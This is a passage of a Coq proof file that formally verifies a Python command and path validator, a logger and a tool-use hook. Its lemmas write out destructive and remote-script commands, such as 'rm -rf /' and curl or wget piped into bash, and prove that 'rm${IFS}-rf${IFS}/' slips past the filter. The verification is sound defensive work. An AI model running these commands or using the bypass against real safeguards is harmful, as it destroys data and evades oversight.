      now destruct (PyStr.startswith path "/workspace").
    + intros (_ & Hlen & Hdots & Hws). apply Z.ltb_ge in Hlen.
      rewrite Hlen, Hdots.
      destruct (PyStr.startswith path "/"); [|reflexivity].
      now rewrite Hws.
  - apply truthy_false in Htruthy. subst path. split.
    + discriminate.
    + now intros [H _].
Qed.

Lemma flags_warnings (command : string) (table : list (Re.regex * string)) :
  Forall (fun e => severity e = "warning"%string) (Builds.flags command table).
Proof.
  apply Forall_forall. intros e Hin.
  apply In_flags in Hin as (p & d & _ & _ & ->). reflexivity.
Qed.

Lemma Forall_opt {A} (P : A -> Prop) (b : bool) (x : A) :
  P x -> Forall P (opt b x).
Proof.
  intros H. destruct b; simpl; auto.
Qed.

(** X2. In every list a validator returns, the entries of severity "error"
    come before the entries of severity "warning", and every entry has
    one of these two severities. *)
Theorem validators_put_errors_first (re_compile : string -> result unit)
        (s field_name : string) :
  (exists l, call (validate_file_path s) = Ret l /\ errors_before_warnings l)
  /\ (exists l, call (validate_bash_command s) = Ret l
                /\ errors_before_warnings l)
  /\ (forall l, call (validate_regex_pattern re_compile s) = Ret l ->
                errors_before_warnings l)
  /\ (exists l, call (validate_text_length s field_name) = Ret l
                /\ errors_before_warnings l).
Proof.
  rewrite call_validate_file_path, call_validate_bash_command,
    call_validate_text_length.
  split; [|split; [|split]].
  - eexists. split; [reflexivity|]. unfold Builds.file_path_errors.
    destruct (PyStr.truthy s).
    + exists (opt (MAX_FILE_PATH_LENGTH <? PyStr.len s) Entry.path_length
              ++ opt (PyStr.contains ".." s) Entry.traversal),
             (opt (Builds.outside s) Entry.outside_workspace).
      split; [now rewrite <- app_assoc|]. split.
      * apply Forall_app. split; now apply Forall_opt.
      * now apply Forall_opt.
    + exists [Entry.empty_path], []. repeat split; auto.
  - eexists. split; [reflexivity|]. unfold Builds.bash_command_errors.
    destruct (PyStr.truthy s).
    + eexists _, _. split; [reflexivity|]. split.
      * now apply Forall_opt.
      * apply flags_warnings.
    + exists [], []. repeat split; auto.
  - intros l Hcall.
    destruct (Builds.escapes re_compile s) as [e|] eqn:Hesc.
    + rewrite (raises_call _ e
                 (Returns.validate_regex_pattern_raises re_compile s e Hesc))
        in Hcall.
      discriminate Hcall.
    + rewrite (returns_call _ _
                 (Returns.validate_regex_pattern_returns re_compile s Hesc))
        in Hcall.
      injection Hcall as <-. unfold Builds.regex_pattern_errors.
      destruct (PyStr.truthy s).
      * exists (opt (MAX_REGEX_LENGTH <? PyStr.len s) Entry.regex_length
                ++ Builds.compile_errors re_compile s),
               (opt (Re.search false backtracking_pattern s)
                    Entry.backtracking).
        split; [now rewrite <- app_assoc|]. split.
        -- apply Forall_app. split; [now apply Forall_opt|].
           unfold Builds.compile_errors.
           destruct (re_compile s) as [|e]; [constructor|].
           now apply Forall_opt.
        -- now apply Forall_opt.
      * exists [], []. repeat split; auto.
  - eexists. split; [reflexivity|]. unfold Builds.text_length_errors.
    eexists _, []. split; [now rewrite app_nil_r|].
    split; [now apply Forall_opt|constructor].
Qed.

Lemma flags_nil (command : string) (table : list (Re.regex * string)) :
  Builds.flags command table = []
  <-> forall pattern description,
        In (pattern, description) table ->
        Re.search true pattern command = false.
Proof.
  split.
  - intros H pattern description Hin.
    destruct (Re.search true pattern command) eqn:Hs; [|reflexivity].
    assert (Hflag : In (Entry.dangerous description)
                       (Builds.flags command table)).
    { apply In_flags. now exists pattern, description. }
    rewrite H in Hflag. destruct Hflag.
  - intros H. destruct (Builds.flags command table) as [|e l] eqn:Hf;
      [reflexivity|].
    assert (Hin : In e (Builds.flags command table))
      by (rewrite Hf; now left).
    apply In_flags in Hin as (p & d & Hin & Hs & _).
    rewrite (H p d Hin) in Hs. discriminate Hs.
Qed.

(** X3. [validate_bash_command] returns the empty list exactly for the
    empty command and for a command of at most 10000 characters that no
    pattern of the table matches. *)
Theorem validate_bash_command_accepts_iff (command : string) :
  call (validate_bash_command command) = Ret []
  <-> command = ""%string
      \/ (PyStr.len command <= 10000
          /\ forall pattern description,
               In (pattern, description) dangerous_patterns ->
               Re.search true pattern command = false).
Proof.
  rewrite call_validate_bash_command. unfold Builds.bash_command_errors.
  destruct (PyStr.truthy command) eqn:Htruthy.
  - assert (Hne : command <> ""%string) by (intros ->; discriminate).
    unfold MAX_COMMAND_LENGTH.
    rewrite <- (flags_nil command dangerous_patterns).
    generalize (Builds.flags command dangerous_patterns) as fl. intros fl.
    split.
    + intros [= H]. apply app_eq_nil in H as [H1 H2].
      apply opt_nil in H1. apply Z.ltb_ge in H1.
      right. now split.
    + intros [Hempty|[Hlen Hnone]]; [contradiction|].
      apply Z.ltb_ge in Hlen. now rewrite Hlen, Hnone.
  - apply truthy_false in Htruthy. subst command. split; [now left|reflexivity].
Qed.

(** ** Commands without white space *)

Module NoSpace.

Import Re.

Section Matcher.

Variable ignorecase : bool.

(** a continuation that rejects every text without white space *)
Definition rejects (k : option ascii -> string -> bool) : Prop :=
  forall p t, no_space t = true -> k p t = false.

Lemma star_rejects body k :
  (forall c, rejects c -> rejects (fun p t => body p t c)) ->
  rejects k ->
  forall fuel, rejects (star body k fuel).
Proof.
  intros Hbody Hk. induction fuel as [|fuel IH]; intros p t Ht; simpl.
  - now rewrite (Hk p t Ht).
  - rewrite (Hk p t Ht). apply (Hbody _); [|exact Ht].
    intros p' t' Ht'.
    destruct (String.length t' <? String.length t)%nat; [|reflexivity].
    now apply IH.
Qed.

Lemma at_least_rejects body k :
  (forall c, rejects c -> rejects (fun p t => body p t c)) ->
  rejects k ->
  forall n, rejects (at_least body k n).
Proof.
  intros Hbody Hk. induction n as [|n IH]; intros p t Ht; simpl.
  - now apply star_rejects.
  - now apply (Hbody _ IH).
Qed.

(** The matcher hands its continuation a text without white space when
    it was given one. *)
Lemma matches_rejects (r : regex) k :
  rejects k -> rejects (fun p t => matches ignorecase r p t k).
Proof.
  revert k.
  induction r as [|c| | | |r1 IH1 r2 IH2|r1 IH1 r2 IH2|n r1 IH1];
    intros k Hk p t Ht; simpl.
  - now apply Hk.
  - destruct t as [|x t]; [reflexivity|].
    simpl in Ht. apply andb_prop in Ht as [_ Ht].
    destruct (lit_eqb ignorecase c x); [now apply Hk|reflexivity].
  - destruct t as [|x t]; [reflexivity|].
    simpl in Ht. apply andb_prop in Ht as [_ Ht].
    destruct (Ascii.eqb x newline); [reflexivity|now apply Hk].
  - destruct t as [|x t]; [reflexivity|].
    simpl in Ht. apply andb_prop in Ht as [_ Ht].
    destruct (PyStr.isspace x); [now apply Hk|reflexivity].
  - destruct (Bool.eqb (word_before p) (word_here t));
      [reflexivity|now apply Hk].
  - apply (IH1 _ (IH2 k Hk) p t Ht).
  - now rewrite (IH1 k Hk p t Ht), (IH2 k Hk p t Ht).
  - apply at_least_rejects; [|exact Hk|exact Ht].
    intros c Hc. now apply IH1.
Qed.

Lemma matches_needs_space (r : regex) :
  needs_space r = true ->
  forall k prev s, no_space s = true -> matches ignorecase r prev s k = false.
Proof.
  induction r as [|c| | | |r1 IH1 r2 IH2|r1 IH1 r2 IH2|n r1 IH1];
    intros Hneeds k prev s Hs; simpl in Hneeds; try discriminate Hneeds.
  - destruct s as [|x s]; [reflexivity|]. simpl in *.
    apply andb_prop in Hs as [Hx _].
    apply negb_true_iff in Hx. now rewrite Hx.
  - simpl. destruct (needs_space r1) eqn:H1.
    + now apply IH1.
    + simpl in Hneeds. apply (matches_rejects r1); [|exact Hs].
      intros p t Ht. now apply IH2.
  - apply andb_prop in Hneeds as [H1 H2]. simpl.
    now rewrite (IH1 H1 k prev s Hs), (IH2 H2 k prev s Hs).
  - destruct n as [|n]; [discriminate Hneeds|]. simpl.
    now apply IH1.
Qed.

Lemma search_from_needs_space (r : regex) :
  needs_space r = true ->
  forall s prev, no_space s = true -> search_from ignorecase r prev s = false.
Proof.
  intros Hneeds. induction s as [|x s IH]; intros prev Hs; simpl.
  - now rewrite (matches_needs_space r Hneeds accept prev "" Hs).
  - rewrite (matches_needs_space r Hneeds accept prev (String x s) Hs).
    simpl in Hs. apply andb_prop in Hs as [_ Hs]. now apply IH.
Qed.

End Matcher.

Lemma dangerous_patterns_need_space :
  forallb (fun entry => needs_space (fst entry)) dangerous_patterns = true.
Proof. vm_compute. reflexivity. Qed.

End NoSpace.

(** X4. A command without any white-space character is never flagged:
    every pattern of the table needs white space (a space, a tab, a line
    break ...) after its first word, so the result is the length error
    alone, or nothing. *)
Theorem commands_without_white_space_are_never_flagged (command : string) :
  no_space command = true ->
  call (validate_bash_command command)
  = Ret (if 10000 <? PyStr.len command then [Entry.command_length] else []).
Proof.
  intros Hs. rewrite call_validate_bash_command.
  unfold Builds.bash_command_errors.
  assert (Hflags : Builds.flags command dangerous_patterns = []).
  { apply flags_nil. intros pattern description Hin.
    pose proof NoSpace.dangerous_patterns_need_space as H.
    rewrite forallb_forall in H. specialize (H _ Hin). cbn [fst] in H.
    now apply NoSpace.search_from_needs_space. }
  rewrite Hflags, app_nil_r. unfold MAX_COMMAND_LENGTH.
  destruct (PyStr.truthy command) eqn:Htruthy.
  - now destruct (10000 <? PyStr.len command).
  - apply truthy_false in Htruthy. now subst command.
Qed.

Lemma commands_without_white_space_are_never_flagged_witness :
  call (validate_bash_command "rm${IFS}-rf${IFS}/") = Ret [].
Proof.
  apply (commands_without_white_space_are_never_flagged "rm${IFS}-rf${IFS}/").
  reflexivity.
Defined.

(** ** Commands that hold an idiom *)

Lemma search_from_app (ignorecase : bool) (r : Re.regex) (s : string) :
  (forall prev, Re.search_from ignorecase r prev s = true) ->
  forall pre prev,
    Re.search_from ignorecase r prev (pre ++ s)%string = true.
Proof.
  intros Hs. induction pre as [|x pre IH]; intros prev.
  - apply Hs.
  - cbn [String.append Re.search_from].
    destruct (Re.matches ignorecase r prev (String x (pre ++ s)) Re.accept);
      [reflexivity|apply IH].
Qed.

Lemma flagged_by (command description : string) (pattern : Re.regex) :
  In (pattern, description) dangerous_patterns ->
  Re.search true pattern command = true ->
  flagged command description.
Proof.
  intros Hin Hs. unfold flagged. rewrite call_validate_bash_command.
  eexists. split; [reflexivity|].
  unfold Builds.bash_command_errors.
  destruct (PyStr.truthy command) eqn:Htruthy.
  - apply in_or_app. right. apply In_flags. now exists pattern, description.
  - apply truthy_false in Htruthy. subst command. exfalso. revert Hs.
    repeat (destruct Hin as [[= <- <-]|Hin]; [vm_compute; discriminate|]).
    destruct Hin.
Qed.

Ltac search_after_space :=
  let prev := fresh "prev" in
  intros prev; cbn [String.append];
  match goal with
  | |- Re.search_from ?ic ?r ?p (String ?x ?t) = true =>
      change (Re.search_from ic r p (String x t))
        with (if Re.matches ic r p (String x t) Re.accept then true
              else Re.search_from ic r (Some x) t);
      destruct (Re.matches ic r p (String x t) Re.accept);
      [reflexivity|vm_compute; reflexivity]
  end.

(** X5. The first three patterns look at the start of the idiom only: a
    command that begins with "rm -rf /", "chmod 777" or "eval ", or holds
    one of them after a space, is flagged whatever follows, so that
    removing any absolute path counts as a "delete from root". *)
Theorem idioms_are_flagged_whatever_follows (pre rest : string) :
  flagged ("rm -rf /" ++ rest) "Recursive force delete from root"
  /\ flagged (pre ++ " rm -rf /" ++ rest) "Recursive force delete from root"
  /\ flagged ("chmod 777" ++ rest) "Overly permissive file permissions"
  /\ flagged (pre ++ " chmod 777" ++ rest)
       "Overly permissive file permissions"
  /\ flagged ("eval " ++ rest) "Arbitrary code execution via eval"
  /\ flagged (pre ++ " eval " ++ rest) "Arbitrary code execution via eval".
Proof.
  repeat split.
  - eapply flagged_by; [left; reflexivity|vm_compute; reflexivity].
  - eapply flagged_by; [left; reflexivity|].
    apply search_from_app. search_after_space.
  - eapply flagged_by; [right; left; reflexivity|vm_compute; reflexivity].
  - eapply flagged_by; [right; left; reflexivity|].
    apply search_from_app. search_after_space.
  - eapply flagged_by; [do 2 right; left; reflexivity|].
    destruct rest; vm_compute; reflexivity.
  - eapply flagged_by; [do 2 right; left; reflexivity|].
    apply search_from_app. destruct rest; search_after_space.
Qed.

Lemma idioms_are_flagged_whatever_follows_witness :
  flagged "cd /tmp && rm -rf /tmp/build" "Recursive force delete from root".
Proof.
  exact (proj1 (proj2 (idioms_are_flagged_whatever_follows
                         "cd /tmp &&" "tmp/build"))).
Defined.

(** ** The five idioms of the table *)

Lemma star_stops body k (fuel : nat) (p : option ascii) (t : string) :
  k p t = true -> Re.star body k fuel p t = true.
Proof.
  intros H. destruct fuel; simpl; now rewrite H.
Qed.

(** A starred dot runs over any text without a line break. *)
Lemma star_dot_skip (ignorecase : bool) k (u t : string) :
  no_newline u = true ->
  forall p,
    k (prev_after u p) t = true ->
    Re.star (Re.matches ignorecase Re.Dot) k (String.length (u ++ t)) p
      (u ++ t)%string
    = true.
Proof.
  induction u as [|x u IH]; intros Hu p Hk.
  - now apply star_stops.
  - simpl in Hu. apply andb_prop in Hu as [Hx Hu].
    apply negb_true_iff in Hx.
    cbn [String.append String.length Re.star].
    destruct (k p (String x (u ++ t))); [reflexivity|].
    cbn [Re.matches]. rewrite Hx.
    rewrite (proj2 (Nat.ltb_lt _ _) (Nat.lt_succ_diag_r _)).
    now apply IH.
Qed.

Lemma search_at_start (ignorecase : bool) (r : Re.regex) (s : string) :
  Re.matches ignorecase r None s Re.accept = true ->
  Re.search ignorecase r s = true.
Proof.
  intros H. unfold Re.search. destruct s; cbn [Re.search_from]; now rewrite H.
Qed.

Ltac decide_tests :=
  repeat match goal with
         | |- context [Re.lit_eqb true ?a ?b] =>
             let v := eval vm_compute in (Re.lit_eqb true a b) in
             change (Re.lit_eqb true a b) with v
         | |- context [PyStr.isword ?a] =>
             let v := eval vm_compute in (PyStr.isword a) in
             change (PyStr.isword a) with v
         | |- context [PyStr.isspace ?a] =>
             let v := eval vm_compute in (PyStr.isspace a) in
             change (PyStr.isspace a) with v
         end;
  cbv beta iota delta [Bool.eqb].

Ltac pipe_to_bash Hu :=
  apply search_at_start;
  cbn [String.append Re.seq Re.lits]; unfold Re.Plus, Re.Star;
  cbn [Re.matches Re.at_least Re.word_before Re.word_here]; decide_tests;
  apply star_stops; cbn [Re.matches Re.at_least];
  apply (star_dot_skip true); [exact Hu|];
  cbn [String.append]; decide_tests;
  cbn [Re.star String.length]; decide_tests;
  rewrite (proj2 (Nat.ltb_lt _ _) (Nat.lt_succ_diag_r _)); reflexivity.

(** C2. The five idioms of the table are flagged, and as warnings only.
    For every command the result holds the entry "Dangerous pattern
    detected: ..." of every pattern of the table that matches, of no
    other, always with severity "warning", and its only entry of severity
    "error" can be the one of the length check.  The table flags a
    command that begins with "rm -rf /", with "chmod 777" or with
    "eval ", whatever follows, and one that begins with "curl " or
    "wget " and later, on the same line, pipes into bash; its five
    descriptions are those of the source; and look-alikes of the idioms
    ("farm -rf /", "evaluate", "mychmod 777", a pipe into sh) are not
    flagged. *)
Theorem dangerous_idioms_are_flagged_as_warnings (command url rest : string) :
  (exists l,
     call (validate_bash_command command) = Ret l
     /\ (forall pattern description,
           In (pattern, description) dangerous_patterns ->
           Re.search true pattern command = true ->
           In (Entry.dangerous description) l)
     /\ (forall description,
           In (Entry.dangerous description) l ->
           exists pattern,
             In (pattern, description) dangerous_patterns
             /\ Re.search true pattern command = true)
     /\ (forall e, In e l -> severity e = "error"%string ->
                   e = Entry.command_length))
  /\ (forall description,
        severity (Entry.dangerous description) = "warning"%string)
  /\ flagged ("rm -rf /" ++ rest) "Recursive force delete from root"
  /\ flagged ("chmod 777" ++ rest) "Overly permissive file permissions"
  /\ flagged ("eval " ++ rest) "Arbitrary code execution via eval"
  /\ (no_newline url = true ->
      flagged ("curl " ++ url ++ "| bash" ++ rest)
        "Piping remote scripts to bash")
  /\ (no_newline url = true ->
      flagged ("wget " ++ url ++ "| bash" ++ rest)
        "Piping remote scripts to bash")
  /\ map snd dangerous_patterns
     = [ "Recursive force delete from root";
         "Overly permissive file permissions";
         "Arbitrary code execution via eval";
         "Piping remote scripts to bash";
         "Piping remote scripts to bash" ]%string
  /\ call (validate_bash_command
             "farm -rf /; evaluate x; mychmod 777; curl x; wget y | sh")
     = Ret [].
Proof.
  split.
  { destruct (validate_bash_command_flags_are_warnings command)
      as (l & Hcall & Hin & Honly & _ & Herr).
    exists l. repeat split; assumption. }
  split; [reflexivity|].
  split; [eapply flagged_by; [left; reflexivity|vm_compute; reflexivity]|].
  split; [eapply flagged_by;
          [right; left; reflexivity|vm_compute; reflexivity]|].
  split; [eapply flagged_by; [do 2 right; left; reflexivity|];
          destruct rest; vm_compute; reflexivity|].
  split; [intros Hu; eapply flagged_by; [do 3 right; left; reflexivity|];
          pipe_to_bash Hu|].
  split; [intros Hu; eapply flagged_by; [do 4 right; left; reflexivity|];
          pipe_to_bash Hu|].
  split; reflexivity.
Qed.

Lemma dangerous_idioms_are_flagged_as_warnings_witness :
  flagged "curl http://example.com/x.sh | bash" "Piping remote scripts to bash"
  /\ flagged "wget -qO- http://example.com/x.sh | bash -s"
       "Piping remote scripts to bash".
Proof.
  split.
  - apply (proj1 (proj2 (proj2 (proj2 (proj2 (proj2
             (dangerous_idioms_are_flagged_as_warnings
                "" "http://example.com/x.sh " ""))))))).
    reflexivity.
  - apply (proj1 (proj2 (proj2 (proj2 (proj2 (proj2 (proj2
             (dangerous_idioms_are_flagged_as_warnings
                "" "-qO- http://example.com/x.sh " " -s")))))))).
    reflexivity.
Defined.

(** X6. [validate_text_length] looks at the length of the text only: two
    texts of the same length get the same result. *)
Theorem validate_text_length_ignores_content (text1 text2 field_name : string) :
  PyStr.len text1 = PyStr.len text2 ->
  call (validate_text_length text1 field_name)
  = call (validate_text_length text2 field_name).
Proof.
  intros Hlen. rewrite !call_validate_text_length.
  unfold Builds.text_length_errors. now rewrite Hlen.
Qed.

Lemma validate_text_length_ignores_content_witness :
  call (validate_text_length "rm -rf /" "content")
  = call (validate_text_length "harmless" "content").
Proof.
  apply (validate_text_length_ignores_content "rm -rf /" "harmless" "content").
  reflexivity.
Defined.

(** ** What the backtracking check looks for *)

Module Backtracking.

Import Re.

Lemma prefix_cons (a b : ascii) (w s : string) :
  String.prefix (String a w) (String b s)
  = if Ascii.eqb b a then String.prefix w s else false.
Proof.
  cbn [String.prefix]. destruct (ascii_dec a b) as [->|Hne].
  - now rewrite Ascii.eqb_refl.
  - destruct (Ascii.eqb b a) eqn:Heq; [|reflexivity].
    apply Ascii.eqb_eq in Heq. congruence.
Qed.

Lemma prefix_nil_l (s : string) : String.prefix "" s = true.
Proof.
  destruct s; reflexivity.
Qed.

Lemma prefix_nil_r (a : ascii) (w : string) :
  String.prefix (String a w) "" = false.
Proof. reflexivity. Qed.

Lemma star_accept body (fuel : nat) (p : option ascii) (t : string) :
  star body accept fuel p t = true.
Proof.
  destruct fuel; reflexivity.
Qed.

Ltac split_tests :=
  repeat match goal with
         | |- context [Ascii.eqb ?x ?c] => destruct (Ascii.eqb x c)
         end.

(** At one position the check matches exactly a text that starts with
    two starred dots, or with an opened dot-plus and two closing
    parentheses. *)
Lemma matches_here (prev : option ascii) (s : string) :
  matches false backtracking_pattern prev s accept
  = String.prefix ".*.*" s || String.prefix "(.+))" s.
Proof.
  unfold backtracking_pattern.
  cbn [matches seq at_least lit_eqb].
  destruct s as [|c1 s]; [reflexivity|].
  destruct s as [|c2 s];
    [rewrite !prefix_cons, ?prefix_nil_r; split_tests;
     rewrite ?prefix_nil_l; reflexivity|].
  destruct s as [|c3 s];
    [rewrite !prefix_cons, ?prefix_nil_r; split_tests;
     rewrite ?prefix_nil_l; reflexivity|].
  destruct s as [|c4 s];
    [rewrite !prefix_cons, ?prefix_nil_r; split_tests;
     rewrite ?prefix_nil_l; reflexivity|].
  destruct s as [|c5 s];
    rewrite !prefix_cons, ?prefix_nil_r, ?star_accept;
    split_tests; rewrite ?prefix_nil_l, ?star_accept; reflexivity.
Qed.

Lemma search_from_contains (s : string) (prev : option ascii) :
  search_from false backtracking_pattern prev s
  = PyStr.contains ".*.*" s || PyStr.contains "(.+))" s.
Proof.
  revert prev. induction s as [|x s IH]; intros prev.
  - reflexivity.
  - cbn [search_from PyStr.contains]. rewrite matches_here, IH.
    destruct (String.prefix ".*.*" (String x s));
      destruct (String.prefix "(.+))" (String x s));
      cbn [orb]; rewrite ?orb_true_r; reflexivity.
Qed.

End Backtracking.

(** X7. The backtracking warning is given exactly to a pattern that
    contains two starred dots in a row (".*.*") or an opened dot-plus
    group followed by two closing parentheses ("(.+))"); nothing else in
    the pattern is looked at. *)
Theorem backtracking_warning_iff (re_compile : string -> result unit)
        (pattern : string) (l : list ValidationError) :
  call (validate_regex_pattern re_compile pattern) = Ret l ->
  (In Entry.backtracking l
   <-> PyStr.contains ".*.*" pattern = true
       \/ PyStr.contains "(.+))" pattern = true).
Proof.
  intros Hcall.
  destruct (Builds.escapes re_compile pattern) as [e|] eqn:Hesc.
  - rewrite (raises_call _ e
               (Returns.validate_regex_pattern_raises re_compile pattern e
                  Hesc)) in Hcall.
    discriminate Hcall.
  - destruct (validate_regex_pattern_entries re_compile pattern Hesc)
      as (l' & Hcall' & _ & _ & Hiff & _).
    rewrite Hcall in Hcall'. injection Hcall' as <-.
    rewrite Hiff. unfold Re.search.
    rewrite Backtracking.search_from_contains, orb_true_iff.
    split; [tauto|]. intros H. split; [|exact H].
    destruct pattern; [|reflexivity].
    destruct H as [H|H]; discriminate H.
Qed.

Lemma backtracking_warning_iff_witness :
  In Entry.backtracking [Entry.backtracking]
  <-> PyStr.contains ".*.*" "^a.*.*b$" = true
      \/ PyStr.contains "(.+))" "^a.*.*b$" = true.
Proof.
  apply (backtracking_warning_iff re_compile_examples "^a.*.*b$").
  reflexivity.
Defined.

(** * Properties of logging.py *)

Module Logging.

Import StructuredLogger.


Section Logger.

Variable utcnow : nat -> string.
Variable component : string.
Variable min_level : LogLevel.

(** the record [_log] prints *)
Definition entry_of (now : string) (level : LogLevel) (message : string)
           (context : option json) (error : option exn)
  : list (string * json) :=
  [ ("timestamp", JStr (now ++ "Z")); ("level", JStr (value level));
    ("component", JStr component); ("message", JStr message) ]
  ++ match context with
     | Some c => if Json.truthy c then [("context", c)] else []
     | None => []
     end
  ++ match error with
     | Some e =>
         [("error", JDict [ ("type", JStr (class_name (exn_cls e)));
                            ("message", JStr (exn_msg e)) ])]
     | None => []
     end.

Lemma _log_run (level : LogLevel) (message : string) (context : option json)
      (error : option exn) (w : world) :
  _log utcnow component min_level level message context error w
  = if _should_log min_level level
    then (Ret tt,
          mkWorld (stdout w)
            (stderr w
             ++ [JDict (entry_of (utcnow (ticks w)) level message context
                          error)])
            (S (ticks w)))
    else (Ret tt, w).
Proof.
  unfold _log. destruct (_should_log min_level level); [|reflexivity].
  cbn [negb]. unfold Py.bind, read_clock, print_stderr, entry_of.
  cbn [stdout stderr ticks].
  destruct context as [c|]; [destruct (Json.truthy c)|];
    destruct error as [e|]; cbn [app]; rewrite <- ?app_assoc; reflexivity.
Qed.

(** X9. A message below the minimum level changes nothing, and does not
    even read the clock; a message at or above it appends exactly one
    record to the error stream and reads the clock once.  The record has
    the keys "timestamp" (the clock reading followed by "Z"), "level",
    "component" and "message"; the key "context" only for a context that
    is given and not empty; the key "error", with the class name and the
    text of the exception, only when an exception is given. *)
Theorem log_writes_one_record (level : LogLevel) (message : string)
        (context : option json) (error : option exn) (w : world) :
  (_should_log min_level level = false ->
   _log utcnow component min_level level message context error w
   = (Ret tt, w))
  /\ (_should_log min_level level = true ->
      exists record,
        _log utcnow component min_level level message context error w
        = (Ret tt,
           mkWorld (stdout w) (stderr w ++ [JDict record]) (S (ticks w)))
        /\ Json.lookup "timestamp" record
           = Some (JStr (utcnow (ticks w) ++ "Z"))
        /\ Json.lookup "level" record = Some (JStr (value level))
        /\ Json.lookup "component" record = Some (JStr component)
        /\ Json.lookup "message" record = Some (JStr message)
        /\ Json.lookup "context" record
           = match context with
             | Some c => if Json.truthy c then Some c else None
             | None => None
             end
        /\ Json.lookup "error" record
           = match error with
             | Some e =>
                 Some (JDict [ ("type", JStr (class_name (exn_cls e)));
                               ("message", JStr (exn_msg e)) ])
             | None => None
             end).
Proof.
  rewrite _log_run. split; intros ->; [reflexivity|].
  eexists. split; [reflexivity|]. unfold entry_of.
  destruct context as [c|]; [destruct (Json.truthy c)|];
    destruct error as [e|]; repeat split.
Qed.

Lemma bind_keywords_stdout method params keywords (w : world) :
  stdout (snd (bind_keywords method params keywords w)) = stdout w.
Proof.
  unfold bind_keywords.
  destruct (find _ keywords) as [[name e]|]; reflexivity.
Qed.

Lemma logged_stdout method params keywords level message context error
      (w : world) :
  stdout
    (snd (Py.bind (bind_keywords method params keywords)
            (fun _ =>
               _log utcnow component min_level level message context error)
            w))
  = stdout w.
Proof.
  unfold Py.bind, bind_keywords.
  destruct (find _ keywords) as [[name e]|]; [reflexivity|].
  unfold Py.ret. rewrite _log_run.
  destruct (_should_log min_level level); reflexivity.
Qed.

(** X10. No method of the logger writes to the standard output, which is
    kept for the answer of the hook: whatever the arguments, the level
    and the keywords, the output is as it was. *)
Theorem logger_leaves_stdout (message : string) (context : option json)
        (keywords : list (string * exn)) (w : world) :
  stdout (snd (debug utcnow component min_level message context keywords w))
  = stdout w
  /\ stdout (snd (info utcnow component min_level message context keywords w))
     = stdout w
  /\ stdout
       (snd (warning utcnow component min_level message context keywords w))
     = stdout w
  /\ stdout (snd (error utcnow component min_level message context keywords w))
     = stdout w
  /\ stdout
       (snd (critical utcnow component min_level message context keywords w))
     = stdout w.
Proof.
  unfold debug, info, warning, error, critical.
  repeat split; apply logged_stdout.
Qed.

(** X11. [debug], [info] and [warning] have no parameter [error]: called
    with that keyword they raise [TypeError] before anything is logged,
    whatever the minimum level, while [error] and [critical] take it and
    log the exception. *)
Theorem only_error_and_critical_take_an_exception
        (message : string) (context : option json) (e : exn) (w : world) :
  debug utcnow component min_level message context [("error", e)] w
  = (Raise (Exn TypeError
       "StructuredLogger.debug() got an unexpected keyword argument 'error'"),
     w)
  /\ info utcnow component min_level message context [("error", e)] w
     = (Raise (Exn TypeError
          "StructuredLogger.info() got an unexpected keyword argument 'error'"),
        w)
  /\ warning utcnow component min_level message context [("error", e)] w
     = (Raise (Exn TypeError
          "StructuredLogger.warning() got an unexpected keyword argument 'error'"),
        w)
  /\ error utcnow component min_level message context [("error", e)] w
     = _log utcnow component min_level ERROR message context (Some e) w
  /\ critical utcnow component min_level message context [("error", e)] w
     = _log utcnow component min_level CRITICAL message context (Some e) w.
Proof.
  repeat split.
Qed.

End Logger.

End Logging.

(** * Further properties of pretooluse.py *)

Module HookRun.

Import PreToolUse.
Local Open Scope py_scope.

Section Run.

Variable Rule : Type.
Variable evaluate_rules : list Rule -> json -> result json.
Variable utcnow : nat -> string.

(** what [main] does with a result once it is printed *)
Definition log_match (result : json) : Py.M world unit :=
  if Json.truthy result then
    has_block <- Json.contains "hookSpecificOutput" result ;;
    has_message <- Json.contains "systemMessage" result ;;
    has_warning <-
      (if has_message
       then b <- Json.contains "hookSpecificOutput" result ;; Py.ret (negb b)
       else Py.ret false) ;;
    logger_info utcnow "Hook matched rules"
      (Some (JDict [ ("has_block", JBool has_block);
                     ("has_warning", JBool has_warning) ])) []
  else Py.ret tt.

(** On a dict, the body of [main] asks for the rules of one event,
    evaluates them and prints the result; the two [debug] messages are
    below the level of the logger. *)
Lemma main_body_on_dict load_rules (input : list (string * json)) (w : world) :
  main_body Rule (Ret (JDict input)) load_rules evaluate_rules utcnow w
  = (rules <- Py.lift (load_rules (event_of input)) ;;
     result <- Py.lift (evaluate_rules rules (JDict input)) ;;
     print_stdout result ;;
     log_match result) w.
Proof.
  unfold main_body, event_of, log_match.
  unfold Py.bind at 1. unfold Py.lift at 1. cbv beta iota.
  unfold Py.bind at 1. unfold Json.get at 1. unfold Py.ret at 1.
  cbv beta iota.
  unfold Py.bind at 1.
  change (logger_debug utcnow "PreToolUse hook triggered" _ [] w)
    with (@Ret unit tt, w).
  cbv beta iota.
  unfold Py.bind at 1. unfold Json.get at 1. unfold Py.ret at 1.
  cbv beta iota zeta.
  unfold Py.bind at 1. unfold Py.lift at 1.
  symmetry. unfold Py.bind at 1. unfold Py.lift at 1. symmetry.
  match goal with |- context [load_rules ?ev] =>
    destruct (load_rules ev) as [rules|e]
  end; [|reflexivity].
  unfold Py.bind at 1.
  match goal with |- context [logger_debug utcnow ?m ?c [] w] =>
    change (logger_debug utcnow m c [] w) with (@Ret unit tt, w)
  end.
  reflexivity.
Qed.

Ltac open_main :=
  unfold run_main, main, Py.try_finally, Py.try_except.

Ltac step_lift H :=
  unfold Py.bind at 1; unfold Py.lift at 1; rewrite H; cbv beta iota.

Lemma event_of_bash (input : list (string * json)) :
  event_of input = Some "bash"%string
  <-> Json.lookup "tool_name" input = Some (JStr "Bash").
Proof.
  unfold event_of.
  destruct (Json.lookup "tool_name" input) as [[| | |name| |]|];
    cbn [Json.eq_str existsb orb]; try (split; discriminate).
  destruct (String.eqb name "Bash") eqn:Hb.
  - apply String.eqb_eq in Hb. subst name. split; reflexivity.
  - split.
    + destruct (_ || _); discriminate.
    + intros [= ->]. discriminate Hb.
Qed.

Lemma event_of_file (input : list (string * json)) :
  event_of input = Some "file"%string
  <-> exists name,
        Json.lookup "tool_name" input = Some (JStr name)
        /\ In name ["Edit"; "Write"; "MultiEdit"]%string.
Proof.
  unfold event_of.
  destruct (Json.lookup "tool_name" input) as [[| | |name| |]|];
    cbn [Json.eq_str existsb orb];
    try (split; [discriminate|intros (n & [=] & _)]).
  destruct (String.eqb name "Bash") eqn:Hb.
  - apply String.eqb_eq in Hb. subst name. split; [discriminate|].
    intros (n & [= <-] & [H|[H|[H|[]]]]); discriminate H.
  - rewrite orb_false_r. split.
    + intros H. exists name. split; [reflexivity|].
